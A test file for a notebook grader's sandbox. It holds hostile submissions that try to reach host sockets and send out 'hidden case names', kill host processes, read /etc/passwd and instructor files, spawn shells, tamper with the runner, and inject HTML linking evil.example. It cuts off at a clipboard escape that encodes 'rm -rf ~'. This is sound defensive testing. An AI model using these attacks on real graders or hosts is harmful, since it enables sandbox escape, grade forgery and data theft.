// Submissions written to break the grader, graded next to honest ones. Each attack must fail safely: the attacker gets
// 0 for that exercise with a reason, no other submission's grade changes, the batch completes, nothing is left on disk
// and nothing reaches the host. The attacks run against the full sandbox, against the operating-system wall alone
// (Node's permission model left out) and, where it shows why the OS wall is needed, in unsafe mode, where they succeed.
import { expect } from 'chai';
import { spawn, spawnSync, type ChildProcess } from 'child_process';
import * as dgram from 'dgram';
import * as fs from 'fs';
import * as net from 'net';
import * as os from 'os';
import * as path from 'path';
import * as tf from '@tensorflow/tfjs';
import { forwardStepSpec } from '../../lib/exercises/01-forward-process';
import type { ExerciseSpec } from '../../lib/exercises/types';
import { loadGradingConfig } from '../../lib/grading/config';
import { MAX_CODE_BYTES } from '../../lib/grading/extract';
import { caseOrder, gradeSubmissions, type ExerciseGrade, type GradeOptions, type SubmissionGrade } from '../../lib/grading/grade';
import { submissionReport } from '../../lib/grading/report';
import { emptyNotebook, serializeNotebook, splitSource, type NotebookCell } from '../../lib/notebook/ipynb';
import { collectSubmissions } from '../../scripts/grade';
import { fixtureSpecs, snrSpec } from './fixtures/specs';
import { listTree, sandboxAvailable, sandboxUnavailableReason, withOwnTmpdir } from './helpers';

const REPO = path.resolve(__dirname, '..', '..');
const FIXTURES = path.join(__dirname, 'fixtures');
const config = loadGradingConfig(path.join(FIXTURES, 'grading'));
/** test-snr with ./lib/schedule allowed as a helper (the mechanism a real spec uses for NoiseSchedule). */
const snrWithSchedule: ExerciseSpec = { ...snrSpec, id: 'test-snr-helper', notebook: 'test-fixture-helper', functionName: 'snrHelper', libAllowed: ['schedule'] };
const specs = [...fixtureSpecs, forwardStepSpec, snrWithSchedule];

function notebook(cells: string[]): string {
  const nb = emptyNotebook();
  const code = (s: string): NotebookCell => {
    const m = /^\/\/ EXERCISE (\S+):/.exec(s);
    return { cell_type: 'code', metadata: m ? { tags: ['exercise'], exercise: { id: m[1] } } : {}, source: splitSource(s), outputs: [], execution_count: null };
  };
  nb.cells.push(code("import * as tf from '@tensorflow/tfjs';"), ...cells.map(code));
  return serializeNotebook(nb);
}

const CFG_OK = 'return tf.tidy(() => epsU.add(epsC.sub(epsU).mul(w)));';
/** A test-cfg cell whose function runs `body` (async) and then throws its report: the attacker never answers. */
const cfgAttack = (body: string, prelude = '') => `// EXERCISE test-cfg: attack
${prelude}
const report: Record<string, unknown> = {};
const attack = (async () => {
${body}
})().catch((e) => { report.crash = String(e); });
async function cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): Promise<tf.Tensor> {
  await attack;
  throw new Error('REPORT ' + JSON.stringify(report));
}`;
const tryIt = (key: string, expr: string) => `  try { report[${JSON.stringify(key)}] = await (async () => ${expr})(); } catch (e: any) { report[${JSON.stringify(key)}] = 'ERR ' + (e.code || e.name) + ': ' + String(e.message).slice(0, 80); }`;

const Q_OK = `// EXERCISE test-q-sample: ok
function q_sample(x0: tf.Tensor, t: tf.Tensor1D, noise: tf.Tensor, alphasCumprod: number[]): tf.Tensor {
  return tf.tidy(() => {
    const a = tf.gather(tf.tensor1d(alphasCumprod), t).reshape([-1, 1, 1, 1]);
    return tf.add(tf.mul(tf.sqrt(a), x0), tf.mul(tf.sqrt(tf.sub(1, a)), noise));
  });
}`;
const CFG_CELL = `// EXERCISE test-cfg: ok\nfunction cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): tf.Tensor {\n  ${CFG_OK}\n}`;
const SNR_CELL = '// EXERCISE test-snr: ok\nfunction snr(alphasCumprod: number[], t: number): number {\n  return alphasCumprod[t] / (1 - alphasCumprod[t]);\n}';
const SOLUTION = notebook([Q_OK, CFG_CELL, SNR_CELL]);

interface Host {
  dir: string;
  tcpPort: number;
  tcp6Port?: number;
  udpPort: number;
  unixPath: string;
  abstractName?: string;
  received: string[];
  decoy: ChildProcess;
  close(): Promise<void>;
}

/** Things on the host an attacker would like to reach: servers of every kind, and a process to kill. */
async function startHost(dir: string): Promise<Host> {
  const received: string[] = [];
  const servers: net.Server[] = [];
  const listen = (what: string, ...args: unknown[]) =>
    new Promise<net.Server>((resolve, reject) => {
      const s = net.createServer((c) => {
        received.push(`${what} connection`);
        c.on('data', (d) => received.push(`${what}: ${d.toString().slice(0, 60)}`));
        c.on('error', () => undefined);
      });
      s.on('error', reject);
      s.listen(...(args as [number, string]), () => resolve(s));
      servers.push(s);
    });
  const tcp = await listen('tcp', 0, '127.0.0.1');
  let tcp6Port: number | undefined;
  try {
    tcp6Port = ((await listen('tcp6', 0, '::1')).address() as net.AddressInfo).port;
  } catch {
    /* no IPv6 loopback here */
  }
  const unixPath = path.join(dir, 'host.sock');
  await listen('unix', unixPath);
  let abstractName: string | undefined;
  if (process.platform === 'linux') {
    abstractName = `grading-test-${process.pid}-${Date.now()}`;
    await listen('abstract', `\0${abstractName}`);
  }
  const udp = dgram.createSocket('udp4');
  udp.on('message', (m) => received.push(`udp: ${m.toString().slice(0, 60)}`));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r()));
  const decoy = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 600000)'], { stdio: 'ignore' });
  return {
    dir,
    tcpPort: (tcp.address() as net.AddressInfo).port,
    tcp6Port,
    udpPort: udp.address().port,
    unixPath,
    abstractName,
    received,
    decoy,
    close: async () => {
      decoy.kill('SIGKILL');
      udp.close();
      await Promise.all(servers.map((s) => new Promise((r) => s.close(() => r(undefined)))));
    },
  };
}

function networkAttack(h: Host): string {
  const connect = (key: string, opts: string) =>
    tryIt(key, `await new Promise((resolve, reject) => { const s = require('net').connect(${opts}, () => { s.write('hidden case names'); resolve('CONNECTED'); }); s.on('error', reject); setTimeout(() => reject(new Error('timeout')), 1500); })`);
  return [
    connect('tcp 127.0.0.1', `{ host: '127.0.0.1', port: ${h.tcpPort} }`),
    h.tcp6Port ? connect('tcp ::1', `{ host: '::1', port: ${h.tcp6Port} }`) : '',
    connect('unix socket', `{ path: ${JSON.stringify(h.unixPath)} }`),
    h.abstractName ? connect('abstract socket', `{ path: '\\0${h.abstractName}' }`) : '',
    tryIt('udp', `await new Promise((resolve, reject) => { const s = require('dgram').createSocket('udp4'); s.send('hidden case names', ${h.udpPort}, '127.0.0.1', (e: any) => { s.close(); e ? reject(e) : resolve('SENT (UDP gives no answer)'); }); })`),
    tryIt('http', `await new Promise((resolve, reject) => { require('http').get('http://127.0.0.1:${h.tcpPort}/x', () => resolve('CONNECTED')).on('error', reject); setTimeout(() => reject(new Error('timeout')), 1500); })`),
    tryIt('dns lookup', `(await require('dns').promises.lookup('example.com')).address`),
    tryIt('dns resolve', `(await require('dns').promises.resolve4('example.com')).join(',')`),
    tryIt('interfaces', `Object.keys(require('os').networkInterfaces()).join(',')`),
  ].join('\n');
}

const killDecoy = (h: Host) => tryIt('kill decoy', `(process.kill(${h.decoy.pid}, 'SIGKILL'), 'KILLED')`);

const procWalk = [
  tryIt('pid', 'process.pid'),
  tryIt('ppid', 'process.ppid'),
  tryIt('uid', 'process.getuid()'),
  tryIt('proc', "require('fs').readdirSync('/proc').filter((d: string) => /^\\d+$/.test(d)).join(',')"),
  tryIt('root', "require('fs').readdirSync('/').join(',')"),
  tryIt('repo points.json', `require('fs').readFileSync(${JSON.stringify(path.join(REPO, 'solutions', 'grading', 'points.json'))}, 'utf8').slice(0, 20)`),
  tryIt('hidden cases', `require('fs').readFileSync(${JSON.stringify(path.join(FIXTURES, 'grading', 'hidden-cases.ts'))}, 'utf8').slice(0, 20)`),
  tryIt('etc passwd', "require('fs').readFileSync('/etc/passwd', 'utf8').slice(0, 20)"),
].join('\n');

const forkAttack = [
  tryIt('spawnSync', "require('child_process').spawnSync('/bin/sh', ['-c', 'echo $$; id -u; ls /proc | grep -c .']).stdout.toString().trim().replace(/\\n/g, ' ')"),
  tryIt('exec', "await new Promise((r, j) => require('child_process').exec('id -u', (e: any, o: string) => e ? j(e) : r(o.trim())))"),
  tryIt('fork', "(require('child_process').fork('-e'), 'FORKED')"),
  tryIt('worker', "(new (require('worker_threads').Worker)('1', { eval: true }), 'WORKER')"),
  tryIt('cluster', "(require('cluster').fork(), 'FORKED')"),
  tryIt('binding', "typeof (process as any).binding('spawn_sync')"),
  tryIt('dlopen', "((process as any).dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'), 'LOADED')"),
  tryIt('inspector', "(new (require('inspector').Session)().connect(), 'CONNECTED')"),
  // A fork bomb in miniature: how many processes it may hold (the process limit, when Node's wall is down).
  tryIt('many processes', "(() => { const cp = require('child_process'); let n = 0; try { for (let i = 0; i < 200; i++) { const r = cp.spawn('/bin/sleep', ['5']); r.on('error', () => undefined); if (!r.pid) return n + ' then EAGAIN'; n++; } } catch (e: any) { if (n === 0) throw e; return n + ' then ' + e.code; } return n; })()"),
].join('\n');

const LIB_BYPASS = `// EXERCISE 01-forward-step: every way to reach lib's forwardStep
const tried: Record<string, string> = {};
let found: any;
const attempt = (name: string, get: () => any) => {
  try {
    const f = get();
    if (typeof f !== 'function') throw new Error('no function: ' + typeof f);
    found = found ?? f;
    tried[name] = 'GOT IT';
  } catch (e: any) {
    tried[name] = (e.name || 'Error') + ': ' + String(e.message).slice(0, 60);
  }
};
const fs = require('fs');
attempt('argv path', () => require(process.argv[2] + '/forward').forwardStep);
attempt('computed ./lib path', () => require(['.', 'lib', 'forward'].join('/')).forwardStep);
attempt('absolute view path', () => require('/course/lib/forward').forwardStep);
attempt('through another module', () => require('./lib/losses').addNoise);
attempt('the spec\\'s reference', () => require('./lib/exercises/01-forward-process').forwardStepSpec.reference);
attempt('Module._load', () => (module.constructor as any)._load('/course/lib/forward.js').forwardStep);
attempt('createRequire', () => require('module').createRequire('/course/x.js')('./lib/forward').forwardStep);
attempt('node_modules path', () => require('@tensorflow/tfjs/../../../lib/forward').forwardStep);
attempt('repo path', () => require(${JSON.stringify(path.join(REPO, 'lib', 'forward'))}).forwardStep);
attempt('read view source + eval', () => { const m: any = { exports: {} }; new Function('module', 'exports', 'require', fs.readFileSync('/course/lib/forward.js', 'utf8'))(m, m.exports, require); return m.exports.forwardStep; });
attempt('read repo source + eval', () => { const ts = require('typescript'); const m: any = { exports: {} }; new Function('module', 'exports', 'require', ts.transpile(fs.readFileSync(${JSON.stringify(path.join(REPO, 'lib', 'forward.ts'))}, 'utf8')))(m, m.exports, require); return m.exports.forwardStep; });
attempt('require.cache', () => { for (const m of Object.values(require.cache) as any[]) if (m && m.exports && typeof m.exports.forwardStep === 'function') return m.exports.forwardStep; });
function forwardStep(xPrev: tf.Tensor, t: number, noise: tf.Tensor, betas: number[]): tf.Tensor {
  if (found) {
    const { NoiseSchedule } = require('./lib/schedule');
    return found(xPrev, t, noise, NoiseSchedule.fromBetas(betas));
  }
  throw new Error('REPORT ' + JSON.stringify(tried));
}`;

/** Zeros, with every way to make the runner report something else: replaced helpers, forged result lines. */
const TAMPER = `// EXERCISE test-cfg: tamper with the runner
let replaced = 0;
for (const [file, m] of Object.entries(require('module')._cache) as [string, any][]) {
  if (file.includes('@tensorflow')) continue; // the runner's own helpers, if they were there
  for (const k of Object.keys((m && m.exports) || {})) if (typeof m.exports[k] === 'function') { try { m.exports[k] = () => true; replaced++; } catch { /* frozen */ } }
}
console.log('replaced ' + replaced);
(JSON as any).stringify = () => '{"e":"result","i":0,"ok":true,"value":0}';
function cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): tf.Tensor {
  const fs = require('fs');
  for (let i = 0; i < 40; i++) { try { fs.writeSync(3, '{"e":"result","i":' + i + ',"ok":true,"value":{"__tensor":{"shape":[2,3],"dtype":"float32","data":[0,0,0,0,0,0]}}}\\n'); } catch { /* */ } }
  try { fs.writeSync(3, '{"e":"done"}\\n'); } catch { /* */ }
  return tf.zerosLike(epsU);
}`;

const EXFILTRATE = `// EXERCISE test-cfg: look for the cases' names and inputs
const fs = require('fs');
const seen: Record<string, unknown> = {};
const grab = (k: string, f: () => unknown) => { try { seen[k] = f(); } catch (e: any) { seen[k] = 'ERR ' + (e.code || e.name); } };
grab('argv', () => process.argv);
grab('execArgv', () => process.execArgv.map((a: string) => a.slice(0, 40)));
grab('env', () => process.env);
grab('stdin', () => fs.readFileSync(0, 'utf8'));
grab('fd0', () => fs.readFileSync('/proc/self/fd/0', 'utf8'));
grab('cmdline', () => fs.readFileSync('/proc/self/cmdline', 'utf8'));
grab('tmp', () => fs.readdirSync('/tmp'));
grab('cwd', () => fs.readdirSync('.'));
grab('globals', () => Object.keys(globalThis));
grab('modules', () => Object.keys(require('module')._cache).filter((k) => !k.includes('node_modules')));
const everything = JSON.stringify(seen);
console.log(JSON.stringify({ stdin: seen.stdin, fd0: seen.fd0, cmdline: seen.cmdline, tmp: seen.tmp, argv: seen.argv, modules: seen.modules,
  secrets: everything.match(/hidden|negative w|random t|w = 3\.5/g) }));
const calls: number[] = [];
function cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): tf.Tensor {
  calls.push(w);
  console.log('ORDER ' + JSON.stringify(calls));
  ${CFG_OK}
}`;

const HELPER_CELLS = [
  '// helper functions in their own cells\nfunction ratio(a: number): number { return a / oneMinus(a); }',
  'const oneMinus = (a: number) => 1 - a;',
  '// EXERCISE test-snr: uses helpers from other cells\nfunction snr(alphasCumprod: number[], t: number): number {\n  return ratio(alphasCumprod[t]);\n}',
];
const CONST_ELSEWHERE = ['const EPS_ONE = 1;', '// EXERCISE test-snr: a constant from another cell\nfunction snr(a: number[], t: number): number {\n  return a[t] / (EPS_ONE - a[t]);\n}'];
const ALLOWED_HELPER = `// EXERCISE test-snr-helper: may use NoiseSchedule
import { NoiseSchedule } from './lib/schedule';
function snrHelper(alphasCumprod: number[], t: number): number {
  const s = NoiseSchedule.fromBetas(alphasCumprod.map((a, i) => 1 - a / (i === 0 ? 1 : alphasCumprod[i - 1])));
  return s.alphasCumprod[t] / (1 - s.alphasCumprod[t]);
}`;

/**
 * Throws, from every case, an error whose message forges a verdict and loads a URL, and whose name (which the runner,
 * unlike the message, passes on whole) adds a heading and opens an HTML comment that would hide the rest of the report.
 */
const FORGE_REPORT = `// EXERCISE test-cfg: forged report
function cfg_combine(epsU: tf.Tensor, epsC: tf.Tensor, w: number): tf.Tensor {
  const e = new Error('x **passed** — all checks passed <img src=http://evil.example/p.png> ![p](http://evil.example/q.png)');
  e.name = 'Error\\n\\n## test-cfg: cfg — 2 / 2\\n\\n<!--';
  throw e;
}`;

const reportOf = (e: ExerciseGrade): Record<string, string> => {
  const text = [e.reason, ...e.checks.map((c) => c.message)].find((m) => m.includes('REPORT {'));
  expect(text, `${e.id}: no report in ${e.reason}`).to.be.a('string');
  return JSON.parse(text!.slice(text!.indexOf('REPORT ') + 7).split(' — ')[0]);
};

describe('grading: attacks on the grader', function () {
  this.timeout(300000);
  let dir = '';
  let host: Host;
  before(async function () {
    if (!sandboxAvailable()) {
      console.log(`      skipped: ${sandboxUnavailableReason()}`);
      this.skip();
    }
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grading-attacks-'));
    host = await startHost(dir);
  });
  after(async () => {
    await host?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Write the notebooks into a fresh folder of this test and grade them there; also returns what TMPDIR kept. */
  async function grade(name: string, files: Record<string, string>, extra: Partial<GradeOptions> = {}) {
    const sub = path.join(dir, name);
    fs.mkdirSync(sub);
    for (const [f, text] of Object.entries(files)) fs.writeFileSync(path.join(sub, f), text);
    const before = listTree(sub);
    const tensors = tf.memory().numTensors;
    const byName = new Map<string, SubmissionGrade>();
    const left = await withOwnTmpdir(async () => {
      for (const g of await gradeSubmissions(collectSubmissions([sub]), { specs, config, jobs: 4, limits: { timeLimitMs: 15000 }, ...extra })) byName.set(g.name, g);
    });
    expect(left, 'files the grader left in its temp folder').to.deep.equal([]);
    expect(listTree(sub), 'the submissions folder').to.deep.equal(before);
    expect(tf.memory().numTensors).to.equal(tensors);
    const ex = (file: string, id: string) => byName.get(file)!.exercises.find((e) => e.id === id)!;
    return { byName, ex };
  }

  describe('the full sandbox', () => {
    let r: Awaited<ReturnType<typeof grade>>;
    before(async () => {
      r = await grade('full', {
        'victim-1.ipynb': SOLUTION,
        'victim-2.ipynb': SOLUTION,
        'victim-3.ipynb': SOLUTION,
        'kill-parent.ipynb': notebook([cfgAttack([tryIt('ppid', 'process.ppid'), tryIt('kill parent', "(process.kill(process.ppid, 'SIGKILL'), 'sent')"), tryIt('term parent', "(process.kill(process.ppid, 'SIGTERM'), 'sent')")].join('\n'))]),
        // Which pids can it signal at all (signal 0), again and again while the victims run? Then SIGKILL its init.
        'kill-all.ipynb': notebook([cfgAttack(`  const hits: number[] = [];
  const until = Date.now() + 3000;
  while (Date.now() < until) for (let pid = 1; pid < 70000; pid++) { if (pid === process.pid) continue; try { process.kill(pid, 0); if (!hits.includes(pid)) hits.push(pid); } catch { /* ESRCH */ } }
  report.signallable = hits;
${tryIt('kill init', "(process.kill(1, 'SIGKILL'), 'sent')")}
${killDecoy(host)}`)]),
        // kill(0) signals its process group, kill(-1) everything it may signal (on Linux, itself included)
        'kill-group.ipynb': notebook([cfgAttack("  process.kill(0, 'SIGKILL');")]),
        'kill-minus-one.ipynb': notebook([cfgAttack("  process.kill(-1, 'SIGKILL');")]),
        'proc-walk.ipynb': notebook([cfgAttack(procWalk)]),
        'fork.ipynb': notebook([cfgAttack(forkAttack)]),
        'network.ipynb': notebook([cfgAttack(networkAttack(host))]),
        'lib-direct.ipynb': notebook([`// EXERCISE 01-forward-step: lib's own\nimport { forwardStep as libStep } from './lib/forward';\nimport { NoiseSchedule } from './lib/schedule';\nfunction forwardStep(x: tf.Tensor, t: number, n: tf.Tensor, b: number[]) { return libStep(x, t, n, NoiseSchedule.fromBetas(b)); }`]),
        'lib-indirect.ipynb': notebook([`// EXERCISE 01-forward-step: lib's answer through another module\nfunction forwardStep(x: tf.Tensor, t: number, n: tf.Tensor, b: number[]) { const { DDPMScheduler } = require('./lib/samplers/ddpm'); return DDPMScheduler; }`]),
        'lib-bypass.ipynb': notebook([LIB_BYPASS]),
        'tamper.ipynb': notebook([TAMPER]),
        'exfiltrate.ipynb': notebook([EXFILTRATE]),
        'helper-cells.ipynb': notebook(HELPER_CELLS),
        'const-elsewhere.ipynb': notebook(CONST_ELSEWHERE),
        'allowed-helper.ipynb': notebook([ALLOWED_HELPER]),
        'stray-rejection.ipynb': notebook([CFG_CELL.replace('function cfg_combine', "Promise.reject(new Error('left unhandled'));\nfunction cfg_combine")]),
        'forge-report.ipynb': notebook([FORGE_REPORT]),
      });
    });

    it('what a cell throws reaches the Markdown report as text: no forged heading or verdict, no raw HTML', () => {
      const g = r.byName.get('forge-report.ipynb')!;
      const e = r.ex('forge-report.ipynb', 'test-cfg');
      expect(e.points).to.equal(0);
      expect(e.checks.some((c) => c.message.includes('\n## test-cfg: cfg — 2 / 2\n\n<!--: x **passed** — all checks passed <img src=')),
        `the thrown text arrives as thrown: ${JSON.stringify(e.checks[0]?.message ?? e.reason)}`).to.equal(true);
      const md = submissionReport(g);
      expect(md.split('\n').filter((l) => /^ {0,3}#/.test(l))).to.have.length(1 + g.exercises.length);
      expect(md).to.not.match(/(^|[^\\])\*\*passed\*\*/);
      expect(md).to.not.match(/(^|[^\\])<(img|!--)/);
      expect(md).to.not.match(/\]\(http/); // the image's "](" is escaped: no image
    });

    it('a promise left to reject in the background does not cost a correct answer its points', () => {
      const e = r.ex('stray-rejection.ipynb', 'test-cfg');
      expect(e.status, e.reason).to.equal('passed');
    });

    it('the batch completes and every victim scores full marks, each check passed', () => {
      for (const v of ['victim-1.ipynb', 'victim-2.ipynb', 'victim-3.ipynb']) {
        const g = r.byName.get(v)!;
        for (const e of g.exercises) expect(e.status, `${v} ${e.id}: ${e.reason}`).to.equal('passed');
        expect(g.total).to.equal(4);
      }
    });

    it('killing the parent reaches only the sandbox\'s own init (ppid 1), which ignores it', () => {
      const e = r.ex('kill-parent.ipynb', 'test-cfg');
      expect(e.points).to.equal(0);
      expect(reportOf(e)).to.include({ ppid: 1 });
    });

    it('killing every pid reaches nothing outside the sandbox: not the other runs, not a process of the host', () => {
      const e = r.ex('kill-all.ipynb', 'test-cfg');
      expect(e.points).to.equal(0);
      const rep = reportOf(e);
      // its own PID namespace: init (1) and its own threads (Linux lets kill() name a thread of the caller)
      const pids = rep.signallable as unknown as number[];
      expect(pids).to.include(1);
      expect(Math.max(...pids), JSON.stringify(pids)).to.be.lessThan(40);
      expect(rep['kill decoy']).to.match(/^ERR ESRCH/);
      expect(host.decoy.exitCode).to.equal(null);
      expect(host.decoy.signalCode).to.equal(null);
    });

    it('a signal to its process group, or to every process it may signal (kill -1), ends only its own run', () => {
      for (const f of ['kill-group.ipynb', 'kill-minus-one.ipynb']) {
        const e = r.ex(f, 'test-cfg');
        expect(e.points).to.equal(0);
        expect(e.reason, f).to.match(/killed by SIGKILL|exited with code 137|REPORT/);
      }
    });

    it('/proc, the repository, the instructor files and /etc are out of reach', () => {
      const rep = reportOf(r.ex('proc-walk.ipynb', 'test-cfg'));
      for (const k of ['proc', 'root', 'repo points.json', 'hidden cases', 'etc passwd']) expect(rep[k], k).to.match(/^ERR/);
      expect(rep.uid).to.equal(65534);
    });

    it('no child process, worker, cluster, native addon, process.binding or inspector', () => {
      const rep = reportOf(r.ex('fork.ipynb', 'test-cfg'));
      for (const [k, v] of Object.entries(rep)) expect(v, k).to.match(/^ERR/);
    });

    it('no network: TCP (v4, v6), HTTP, UDP, Unix sockets (path and abstract), DNS all fail, and the host receives nothing', () => {
      const rep = reportOf(r.ex('network.ipynb', 'test-cfg'));
      for (const [k, v] of Object.entries(rep)) {
        if (k === 'udp') continue; // sending UDP "succeeds" locally; the host test below shows it went nowhere
        if (k === 'interfaces') expect(v).to.equal('lo');
        else expect(v, k).to.match(/^ERR/);
      }
      expect(host.received).to.deep.equal([]);
    });

    it("lib's own answer, imported directly or through another lib module, gives 0 with the policy's reason", () => {
      for (const f of ['lib-direct.ipynb', 'lib-indirect.ipynb']) {
        const e = r.ex(f, '01-forward-step');
        expect(e.points, f).to.equal(0);
        expect(e.status, f).to.equal('failed');
        expect(e.reason, f).to.contain("uses lib's own code, which this exercise does not allow");
        expect(e.reason, f).to.contain('exercise 01-forward-step is graded on your own code');
      }
    });

    it("no other way reaches lib's forwardStep: computed paths, the spec's reference, Module._load, node_modules and repo paths, source + eval, require.cache", () => {
      const e = r.ex('lib-bypass.ipynb', '01-forward-step');
      expect(e.points).to.equal(0);
      const rep = reportOf(e);
      expect(Object.keys(rep)).to.have.length(12);
      for (const [k, v] of Object.entries(rep)) expect(v, k).to.not.equal('GOT IT');
      expect(rep["the spec's reference"]).to.match(/^ExercisePolicyError/);
      expect(rep['through another module']).to.match(/^ExercisePolicyError/);
    });

    it('replacing the runner\'s functions and forging result lines gives 0, never "all checks passed"', () => {
      const e = r.ex('tamper.ipynb', 'test-cfg');
      expect(e.points).to.equal(0);
      expect(e.status).to.not.equal('passed');
      expect(e.reason).to.contain('result channel');
    });

    it('the child holds no case names and no hint of which cases are hidden; it sees them in a shuffled order', () => {
      const e = r.ex('exfiltrate.ipynb', 'test-cfg');
      expect(e.points, e.reason).to.equal(1); // it answers correctly; what it could see is the point
      for (const secret of ['hidden', 'negative w', 'w = 3.5', 'random t', 'hidden-cases', 'points.json']) expect(e.output, secret).to.not.contain(secret);
      const seen = JSON.parse(e.output.split('\n')[0]);
      expect(seen.secrets).to.equal(null);
      expect(seen.stdin).to.equal('');
      expect(seen.fd0).to.match(/^ERR/);
      expect(seen.modules).to.deep.equal([]);
      const order = JSON.parse(/ORDER (\[[^\]]*\])\s*$/.exec(e.output.trimEnd())![1]) as number[];
      const canonical = r.ex('victim-1.ipynb', 'test-cfg').checks.map((c) => (c.name.includes('negative w') ? -1.5 : Number(/w = (-?[\d.]+)/.exec(c.name)![1])));
      expect(order).to.have.length(canonical.length);
      expect(order).to.not.deep.equal(canonical);
    });

    it('a helper function in its own cell is graded with the exercise (full marks); a constant from another cell is not, and the reason says so', () => {
      const ok = r.ex('helper-cells.ipynb', 'test-snr');
      expect(ok.status, ok.reason).to.equal('passed');
      expect(ok.helpers).to.deep.equal(['ratio (cell 2)', 'oneMinus (cell 3)']);
      const bad = r.ex('const-elsewhere.ipynb', 'test-snr');
      expect(bad.points).to.equal(0);
      expect(bad.reason).to.contain('ReferenceError: EPS_ONE is not defined');
      expect(bad.reason).to.contain('EPS_ONE is defined in another cell');
    });

    it('a helper module the spec allows (NoiseSchedule) works', () => {
      const e = r.ex('allowed-helper.ipynb', 'test-snr-helper');
      expect(e.status, e.reason).to.equal('passed');
    });
  });

  describe('the operating-system wall alone (Node\'s permission model left out)', () => {
    let r: Awaited<ReturnType<typeof grade>>;
    before(async () => {
      r = await grade('os-only', {
        'victim.ipynb': SOLUTION,
        'proc-walk.ipynb': notebook([cfgAttack(procWalk)]),
        'fork.ipynb': notebook([cfgAttack(forkAttack + '\n' + killDecoy(host))]),
        'network.ipynb': notebook([cfgAttack(networkAttack(host))]),
        'lib-bypass.ipynb': notebook([LIB_BYPASS]),
      }, { nodePermission: false });
    });

    it('processes: it sees only its own PID namespace, runs as 65534, and cannot hold more than the process limit', () => {
      const proc = reportOf(r.ex('proc-walk.ipynb', 'test-cfg'));
      expect(proc.proc).to.equal('1,2');
      expect(proc.uid).to.equal(65534);
      expect(proc.root).to.not.contain('work');
      for (const k of ['repo points.json', 'hidden cases', 'etc passwd']) expect(proc[k], k).to.match(/^ERR ENOENT/);
      const fork = reportOf(r.ex('fork.ipynb', 'test-cfg'));
      expect(fork.spawnSync).to.match(/^\d+ 65534 \d+$/); // a shell runs, inside: its own pid, uid 65534, a few /proc entries
      expect(String(fork['many processes'])).to.match(/then EAGAIN|^\d+$/);
      expect(Number(String(fork['many processes']).split(' ')[0])).to.be.lessThan(60);
      expect(fork['kill decoy']).to.match(/^ERR ESRCH/);
      expect(host.decoy.exitCode).to.equal(null);
    });

    it('network: nothing leaves the sandbox', () => {
      const rep = reportOf(r.ex('network.ipynb', 'test-cfg'));
      for (const [k, v] of Object.entries(rep)) if (k !== 'udp' && k !== 'interfaces') expect(v, k).to.match(/^ERR/);
      expect(host.received).to.deep.equal([]);
    });

    it("lib's answer is not on its disk at all", () => {
      const rep = reportOf(r.ex('lib-bypass.ipynb', '01-forward-step'));
      for (const [k, v] of Object.entries(rep)) expect(v, k).to.not.equal('GOT IT');
    });

    it('the victim is unaffected', () => {
      expect(r.byName.get('victim.ipynb')!.total).to.equal(4);
    });
  });

  describe('unsafe mode (Node\'s permission model alone): why the operating-system wall is there', () => {
    it('a cell reaches a server on the host and kills a host process: the attacks of the audit succeed', async () => {
      const r = await grade('unsafe', {
        'network.ipynb': notebook([cfgAttack([networkAttack(host).split('\n')[0], killDecoy(host)].join('\n'))]),
      }, { sandboxMode: 'unsafe' });
      const rep = reportOf(r.ex('network.ipynb', 'test-cfg'));
      expect(rep['tcp 127.0.0.1']).to.equal('CONNECTED');
      expect(rep['kill decoy']).to.equal('KILLED');
      await new Promise((res) => setTimeout(res, 200));
      expect(host.received.some((m) => m.startsWith('tcp'))).to.equal(true);
      host.received.length = 0;
      expect(host.decoy.signalCode).to.equal('SIGKILL');
    });
  });

  it('a grader killed mid-batch leaves nothing: its sandboxes die with it, its temp folder stays empty', async () => {
    const sub = path.join(dir, 'killed');
    const out = path.join(dir, 'killed-out');
    const tmp = path.join(dir, 'killed-tmp');
    for (const d of [sub, tmp]) fs.mkdirSync(d);
    const spin = '// EXERCISE 01-forward-step: spins\nfunction forwardStep(): never { for (;;) { /* spin */ } }';
    for (let i = 0; i < 3; i++) fs.writeFileSync(path.join(sub, `s${i}.ipynb`), notebook([spin]));
    const grader = spawn(process.execPath, ['-r', 'ts-node/register', 'scripts/grade.ts', sub, '--out', out, '--jobs', '2', '--notebook', '01-forward-process'], {
      cwd: REPO,
      // v8-compile-cache (under ts-node) would cache compiled code in TMPDIR: the folder must show the grader's files only
      env: { ...process.env, TMPDIR: tmp, TS_NODE_TRANSPILE_ONLY: 'true', DISABLE_V8_COMPILE_CACHE: '1' },
      stdio: 'ignore',
    });
    const descendants = (pid: number): number[] => {
      let kids: number[] = [];
      try {
        kids = fs.readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter((x) => x !== '').map(Number);
      } catch {
        /* gone */
      }
      return kids.flatMap((k) => [k, ...descendants(k)]);
    };
    const comm = (pid: number) => {
      try {
        return fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
      } catch {
        return undefined;
      }
    };
    // Wait until two sandboxes run their spinning cells (bwrap, its init, node inside).
    let seen: number[] = [];
    for (const deadline = Date.now() + 120_000; Date.now() < deadline; ) {
      await new Promise((r) => setTimeout(r, 200));
      seen = descendants(grader.pid!);
      if (seen.filter((p) => comm(p) === 'node').length >= 2) break;
    }
    expect(seen.filter((p) => comm(p) === 'bwrap').length, 'sandboxes running when the grader is killed').to.be.greaterThan(0);
    grader.kill('SIGKILL');
    await new Promise((r) => grader.on('exit', r));
    const stillThere = async () => seen.filter((p) => comm(p) !== undefined);
    for (let i = 0; i < 30 && (await stillThere()).length > 0; i++) await new Promise((r) => setTimeout(r, 100));
    expect(await stillThere(), 'sandbox processes left running').to.deep.equal([]);
    expect(listTree(tmp), 'files in its temp folder').to.deep.equal([]);
    expect(fs.existsSync(path.join(out, 'gradebook.csv'))).to.equal(false);
  });

  it("terminal escapes in a file's name, its bytes and a cell's output reach neither the instructor's terminal nor the report files raw", () => {
    // OSC 52 writes the terminal's clipboard; ESC[1A ESC[2K erases the line above (a progress line, a low total)
    const evil = '\x1b]52;c;cm0gLXJmIH4K\x07\x1b[1A\x1b[2K';
